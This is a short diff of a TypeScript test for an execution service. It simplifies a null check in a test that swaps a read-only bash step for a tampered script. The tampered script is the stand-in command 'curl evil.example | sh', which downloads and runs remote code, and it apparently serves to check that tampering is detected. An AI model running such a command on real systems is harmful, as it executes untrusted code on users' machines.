@@ -181,7 +181,7 @@ describe('ExecutionService', () => {
     if (!instruction) throw new Error('laptop_running_slow missing')
     const plan = buildPlan(instruction, { device: 'LT-0423', platform: 'linux' })
     const original = plan.steps.find((step) => step.executor === 'bash' && step.readOnly)
-    if (!original || original.invocation.type !== 'script') throw new Error('no bash step')
+    if (original?.invocation.type !== 'script') throw new Error('no bash step')
     const tampered: PlanStep = {
       ...original,
       invocation: { ...original.invocation, script: 'curl evil.example | sh' },
